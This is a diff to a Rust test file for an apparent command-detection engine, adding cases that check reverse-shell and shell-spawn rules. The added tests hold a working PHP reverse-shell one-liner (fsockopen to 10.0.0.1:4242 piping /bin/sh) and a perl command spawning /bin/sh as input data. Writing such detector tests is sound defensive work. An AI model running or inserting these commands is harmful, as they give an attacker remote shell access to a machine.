@@ -248,10 +248,13 @@ fn a_weaker_rule_of_the_family_yields_to_the_stronger_hit_on_the_same_record() {
     let ids = rule_ids(&e, ps);
     assert!(ids.contains(&"shell.reverse.powershell".to_string()), "{ids:?}");
     assert!(!ids.contains(&"shell.code.socket-shell".to_string()), "{ids:?}");
-    // A bare interactive shell keeps its own finding.
+    let php = "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'";
+    assert_eq!(rule_ids(&e, php), vec!["shell.reverse.php".to_string()]);
+    // A bare interactive shell or shell spawn keeps its own finding.
     for bare in ["docker exec -it web /bin/bash -i", "sh -i"] {
         assert_eq!(rule_ids(&e, bare), vec!["shell.interactive".to_string()], "{bare}");
     }
+    assert_eq!(rule_ids(&e, "perl -e 'exec \"/bin/sh\";'"), vec!["shell.spawn.code".to_string()]);
 }
 
 #[test]
